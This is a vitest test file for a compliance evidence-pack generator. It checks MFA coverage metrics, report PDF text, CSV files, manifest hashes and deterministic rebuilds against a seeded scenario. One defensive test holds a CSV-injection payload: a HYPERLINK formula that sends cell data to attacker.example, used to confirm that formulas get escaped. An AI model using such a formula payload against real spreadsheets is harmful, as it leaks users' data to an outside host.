import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { computeMetrics } from '../../../reports/metrics/metrics.ts';
import { FRAMEWORK_IDS } from '../../../reports/evidence/catalog.ts';
import { Manifest } from '../../../reports/evidence/manifest.ts';
import { verifyPack } from '../../../reports/evidence/verify-pack.ts';
import { scenarioPacks, type ScenarioPacks } from './scenario-packs.ts';
import { sessionKey, TRUTH } from './seed.ts';
import { readZip } from './zip-tools.ts';

// Packs built over the known scenario (seed.ts): every number equals the constructed truth and the metrics engine,
// the files say what they should, and two builds are byte-identical.

let s: ScenarioPacks;
const files = new Map<string, Map<string, Buffer>>();
const text = (framework: string, name: string): string => (files.get(framework)?.get(name) ?? Buffer.alloc(0)).toString('utf8');

function pdfText(framework: string): string {
  const path = join(s.dir, `${framework}.pdf`);
  writeFileSync(path, files.get(framework)?.get('report.pdf') ?? Buffer.alloc(0));
  return execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' });
}

function csvRows(framework: string, name: string): string[][] {
  return text(framework, name).trimEnd().split('\r\n').map((l) => l.split(','));
}

beforeAll(async () => {
  s = await scenarioPacks();
  for (const f of FRAMEWORK_IDS) files.set(f, new Map(await readZip(s.packs[f]?.path as string)));
}, 240_000);
afterAll(async () => { await s?.cleanup(); });

describe('evidence pack results', () => {
  it('every control test of every framework equals the constructed truth', () => {
    let checked = 0;
    for (const f of FRAMEWORK_IDS) {
      for (const r of s.packs[f]?.manifest.results ?? []) {
        const truth = TRUTH[r.test_id] as readonly [number, number, number];
        expect([r.control_id, r.test_id, r.population, r.covered, r.exceptions]).toEqual([r.control_id, r.test_id, ...truth]);
        expect(r.coverage_pct).toBe(Math.round((truth[1] / truth[0]) * 10000) / 100);
        checked++;
      }
    }
    expect(checked).toBe(34);
  });

  it('the PDF, parsed back to text, prints the metrics engine\'s numbers', async () => {
    const m = await computeMetrics(s.store, s.file, { from: Date.parse('2025-03-11T00:00:00.000Z'), to: Date.parse('2025-03-12T00:00:00.000Z') });
    expect([m.privileged_sessions, m.mfa_covered_sessions, m.mfa_coverage_pct, m.phishing_resistant_pct]).toEqual([13, 10, 76.92, 40]);
    const soc2 = pdfText('soc2').replace(/\s+/g, ' ');
    expect(soc2).toContain(`Result of privileged_mfa for CC6.1: population ${m.privileged_sessions}, covered ${m.mfa_covered_sessions}, exceptions ${m.coverage_by_binding.exempt + m.coverage_by_binding.none}, coverage ${m.mfa_coverage_pct.toFixed(2)}%`);
    expect(soc2).toContain(`Privileged sessions ${m.privileged_sessions} MFA-covered sessions ${m.mfa_covered_sessions} MFA coverage ${m.mfa_coverage_pct.toFixed(2)}%`);
    expect(soc2).toContain(`Binding direct ${m.coverage_by_binding.direct}, idp_bound ${m.coverage_by_binding.idp_bound}, exempt ${m.coverage_by_binding.exempt}, none ${m.coverage_by_binding.none}`);
    expect(soc2).toContain(`Result of break_glass_review for CC7.2: population ${m.break_glass.uses}, covered ${m.break_glass.reviewed}, exceptions ${m.break_glass.unreviewed}`);
    expect(soc2).toContain(`Result of revocation_timeliness for CC6.2: population ${m.time_to_revoke_hours.count}, covered ${m.time_to_revoke_hours.count - m.time_to_revoke_hours.over_sla}`);
    expect(soc2).toContain(`Exceptions by disposition: open_finding 1, over_sla ${m.time_to_revoke_hours.over_sla}.`);
    for (const sfc of m.coverage_by_surface) expect(soc2).toContain(`${sfc.surface} ${sfc.privileged_sessions} ${sfc.mfa_covered_sessions} ${sfc.mfa_coverage_pct.toFixed(2)}%`);
    const pci = pdfText('pci-dss').replace(/\s+/g, ' ');
    expect(pci).toContain(`Result of phishing_resistant_mfa for 8.5.1: population ${m.mfa_covered_sessions}, covered 4, exceptions 6, coverage ${m.phishing_resistant_pct.toFixed(2)}%`);
    expect(pci).toContain(`Result of privileged_mfa for 8.4.1: population ${m.privileged_sessions}, covered ${m.mfa_covered_sessions}`);
    const byKind = new Map<string, number>();
    for (const row of csvRows('soc2', 'findings.csv').slice(1)) byKind.set(row[1] as string, (byKind.get(row[1] as string) ?? 0) + 1);
    for (const f of m.findings) expect(byKind.get(f.kind) ?? 0).toBe(f.count);
  });

  it('every result line of every report equals the manifest', () => {
    for (const f of FRAMEWORK_IDS) {
      const pdf = pdfText(f).replace(/\s+/g, ' ');
      for (const r of s.packs[f]?.manifest.results ?? []) {
        expect(pdf).toContain(`Result of ${r.test_id} for ${r.control_id}: population ${r.population}, covered ${r.covered}, exceptions ${r.exceptions}, coverage ${r.coverage_pct === null ? 'n/a' : `${r.coverage_pct.toFixed(2)}%`}`);
      }
    }
  });

  it('the report has a cover with the pack id and evidence digest, and "Page i of N" on every page', () => {
    const raw = pdfText('nist-800-53');
    const pack = s.packs['nist-800-53'];
    expect(raw).toContain(pack?.pack_id);
    expect(raw).toContain(pack?.evidence_digest);
    expect(raw).toMatch(/Organisation +Example Org/);
    const pages = raw.split('\f').filter((p) => p.trim());
    expect(pages.length).toBeGreaterThan(8);
    pages.forEach((p, i) => expect(p).toContain(`Page ${i + 1} of ${pages.length}`));
    expect(raw).toContain('Methodology');
    expect(raw).toContain('366 or more');
  });
});

describe('evidence pack files', () => {
  it('population.csv lists each in-scope session once with binding, MFA event and evidence ids; tombstoned and out-of-period sessions are absent', () => {
    const rows = csvRows('iso-27001', 'population.csv');
    expect(rows[0]?.slice(0, 3)).toEqual(['session_key', 'started_at', 'ended_at']);
    const keys = rows.slice(1).map((r) => r[0]);
    expect(keys).toHaveLength(15);
    expect(keys).not.toContain(sessionKey('S16'));
    expect(keys).not.toContain(sessionKey('S17'));
    expect(keys).not.toContain(sessionKey('S18'));
    const s1 = rows.find((r) => r[0] === sessionKey('S1')) as string[];
    expect(s1.slice(1, 2)).toEqual(['2025-03-11T09:00:00.000Z']);
    expect(s1[12]).toBe('direct');
    expect(s1[15]).toMatch(/^[0-9a-f-]{36}$/);
    expect((s1[21] as string).split(' ')).toHaveLength(2);
    // The logging control (AC-6(9)) includes the service identity's session.
    expect(csvRows('nist-800-53', 'population.csv').map((r) => r[0])).toContain(sessionKey('S16'));
  });

  it('exceptions.csv gives each exception its disposition: the exemption with approver and expiry, or the open finding', () => {
    const rows = csvRows('soc2', 'exceptions.csv').slice(1).filter((r) => r[0] === 'CC6.1' && r[1] === 'privileged_mfa');
    expect(rows).toHaveLength(3);
    const s9 = rows.find((r) => r[3] === sessionKey('S9')) as string[];
    expect(s9.slice(11, 15)).toEqual(['exemption', 'X1', 'ciso@example.com', '2025-04-01T00:00:00.000Z']);
    const s10 = rows.find((r) => r[3] === sessionKey('S10')) as string[];
    expect(s10[11]).toBe('open_finding');
    expect(s10[17]).toBe('direct_ssh_key no_mfa');
    const bg = csvRows('soc2', 'exceptions.csv').find((r) => r[1] === 'break_glass_review') as string[];
    expect([bg[3], bg[11]]).toEqual([sessionKey('S12'), 'review_pending']);
  });

  it('findings.csv neutralizes spreadsheet formulas', () => {
    const f = text('soc2', 'findings.csv');
    expect(f).toContain('"\'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")"');
    expect(f).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('sample.csv draws the table size per control and test, and each sampled item has its raw records with matching SHA-256', () => {
    const rows = csvRows('soc2', 'sample.csv').slice(1);
    const count = (c: string, t: string): number => rows.filter((r) => r[0] === c && r[1] === t).length;
    expect(count('CC6.1', 'privileged_mfa')).toBe(10);
    expect(count('CC6.6', 'remote_access_mfa')).toBe(3);
    expect(count('CC6.2', 'revocation_timeliness')).toBe(2);
    const zip = files.get('soc2') as Map<string, Buffer>;
    let lines = 0;
    for (const r of rows) {
      const raw = zip.get(r[18] as string);
      expect(raw, r[18]).toBeDefined();
      for (const line of (raw as Buffer).toString('utf8').split('\n').filter(Boolean)) {
        const o = JSON.parse(line) as { raw: string; raw_sha256: string; event_ids: string[] };
        expect(createHash('sha256').update(o.raw).digest('hex')).toBe(o.raw_sha256);
        expect(o.event_ids.length).toBeGreaterThan(0);
        lines++;
      }
    }
    expect(lines).toBeGreaterThan(40);
  });

  it('queries.sql holds the parameterized queries, their parameter values and the reconciliation per source', () => {
    const q = text('soc2', 'queries.sql');
    expect(q).toContain('FROM sessions FINAL');
    expect(q).toContain('-- param from = "2025-03-11 00:00:00.000"');
    expect(q).toContain('-- param to = "2025-03-12 00:00:00.000"');
    expect(q).toContain('{from:DateTime64(3, \'UTC\')}');
    expect(q).toMatch(/-- okta +\| idp +\| 1 +\| 39 +\| 37 +\| 2 +\| 0 +\| 36 +\| 36 /);
    expect(q).toContain('-- dead letters: okta invalid_json: 1');
    expect(q).toContain('-- gap: okta delivered no events in [2025-03-11T00:00:00.000Z, 2025-03-11T08:00:00.000Z)');
  });

  it('manifest.json lists every file with size and SHA-256, row counts, period, versions, watermark and seed', () => {
    const m = Manifest.parse(JSON.parse(text('soc2', 'manifest.json')));
    const zip = files.get('soc2') as Map<string, Buffer>;
    expect(m.files.map((f) => f.path).sort()).toEqual([...zip.keys()].filter((k) => k !== 'manifest.json' && k !== 'manifest.sig').sort());
    for (const f of m.files) expect(createHash('sha256').update(zip.get(f.path) as Buffer).digest('hex')).toBe(f.sha256);
    expect(m.row_counts).toEqual({ 'population.csv': 13, 'sample.csv': 41, 'exceptions.csv': 22, 'findings.csv': 6 });
    expect(m.period).toEqual({ from: '2025-03-11T00:00:00.000Z', to: '2025-03-12T00:00:00.000Z', semantics: 'UTC; from inclusive, to exclusive' });
    expect(m.generated_at).toBe('2025-03-12T00:00:00.000Z');
    expect(m.data_watermark.okta).toBe('2025-03-11T17:30:12.808Z');
    expect(m.sampling.seed).toMatch(/^[0-9a-f]{16}$/);
    expect(m.tool.version).toBe('0.1.0');
    expect(m.signing.public_key_sha256).toBe(s.key.fingerprint);
    expect([...zip.keys()].slice(0, 4)).toEqual(['manifest.json', 'manifest.sig', 'exceptions.csv', 'findings.csv']);
  });
});

describe('determinism', () => {
  it('the same data and parameters produce a byte-identical zip', async () => {
    const again = await s.build('soc2', 'soc2-again');
    expect(readFileSync(again.path).equals(readFileSync(s.packs.soc2?.path as string))).toBe(true);
    expect(again.pack_id).toBe(s.packs.soc2?.pack_id);
  });

  it('another generation time changes the pack id and PDF, not the data files; another seed changes the sample', async () => {
    const later = await s.build('soc2', 'soc2-later', { generated_at: '2025-03-20T00:00:00Z' });
    expect(later.pack_id).not.toBe(s.packs.soc2?.pack_id);
    const a = files.get('soc2') as Map<string, Buffer>;
    const b = new Map(await readZip(later.path));
    for (const name of ['population.csv', 'findings.csv', 'queries.sql']) expect(b.get(name)?.equals(a.get(name) as Buffer), name).toBe(true);
    expect(b.get('report.pdf')?.equals(a.get('report.pdf') as Buffer)).toBe(false);
    // Break-glass review due dates are judged at the generation time: S12 is overdue 9 days later.
    expect(b.get('exceptions.csv')?.toString()).toContain('review_overdue');
    const seeded = await s.build('soc2', 'soc2-seed', { seed: 'audit-2025' });
    const c = new Map(await readZip(seeded.path));
    expect(c.get('sample.csv')?.equals(a.get('sample.csv') as Buffer)).toBe(false);
    expect((await verifyPack(seeded.path)).ok).toBe(true);
  });

  it('--sample-size overrides the table and --control limits the controls', async () => {
    const p = await s.build('soc2', 'soc2-small', { sample_size: 1, controls: ['cc6.1'] });
    expect(p.manifest.controls.map((c) => c.id)).toEqual(['CC6.1']);
    expect(p.manifest.results.map((r) => r.sample_size)).toEqual([1, 1]);
    expect(p.manifest.sampling.size_override).toBe(1);
  });
});
